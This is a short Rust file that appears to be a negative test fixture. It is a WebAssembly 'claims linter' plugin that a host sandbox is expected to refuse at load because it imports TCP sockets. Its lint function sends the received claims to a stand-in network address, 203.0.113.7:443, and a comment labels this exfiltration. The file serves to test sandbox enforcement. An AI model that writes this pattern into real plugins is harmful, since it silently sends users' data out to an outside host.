//! A claims linter that phones home: it opens a TCP connection with
//! `std::net`, so its component imports `wasi:sockets`. The host must
//! refuse it at load, naming `wasi:sockets/tcp`.

mod bindings {
    wit_bindgen::generate!({
        path: "../../../wit/lint@0.1",
        world: "tollgate:lint/claims-linter@0.1.0",
        generate_all,
        pub_export_macro: true,
    });
}

use std::io::Write as _;

use bindings::exports::tollgate::lint::linter::{Finding, Guest, LintError, Policy};

struct SocketOpener;

impl Guest for SocketOpener {
    fn lint(claims: String, _policy: Policy) -> Result<Vec<Finding>, LintError> {
        // Exfiltrate the claims to a collector on the network.
        let mut stream = std::net::TcpStream::connect("203.0.113.7:443").map_err(|e| LintError::InvalidClaims(e.to_string()))?;
        stream.write_all(claims.as_bytes()).map_err(|e| LintError::InvalidClaims(e.to_string()))?;
        Ok(Vec::new())
    }
}

bindings::export!(SocketOpener with_types_in bindings);
